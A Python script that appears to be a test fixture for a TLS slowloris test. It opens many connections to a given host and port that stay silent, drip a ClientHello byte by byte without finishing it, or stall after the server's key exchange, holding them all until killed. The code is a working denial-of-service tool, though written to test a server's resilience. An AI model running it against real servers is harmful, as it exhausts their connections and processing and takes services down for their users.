"""Attackers for test_tls_slowloris.py: COUNT connections to HOST:PORT that
never finish a TLS handshake, in three kinds, kept busy until killed.

- silent: connect and send nothing (half-open);
- dripping: a ClientHello record header, then one byte every so often;
- stalled: a whole ClientHello (the server does its key exchange and
  signs), then nothing: the client never answers the server's flight.

Prints "ready" once every connection is open and has sent its first bytes.
"""
import os
import socket
import ssl
import sys
import time

host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])


def client_hello():
    """A real ClientHello, taken from Python's own TLS client over memory BIOs."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    tls = context.wrap_bio(incoming, outgoing)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


hello = client_hello()
dripping, held = [], []
for index in range(count):
    sock = socket.create_connection((host, port), timeout=30)
    kind = index % 3
    if kind == 1:
        sock.sendall(hello[:5])
        dripping.append([sock, 5])
    elif kind == 2:
        sock.sendall(hello)
    held.append(sock)
print("ready", flush=True)
while True:
    for entry in dripping:
        sock, sent = entry
        if sent < len(hello) - 1:  # never the last byte: the hello never completes
            try:
                sock.send(hello[sent:sent + 1])
            except OSError:
                continue
            entry[1] = sent + 1
    time.sleep(0.05)
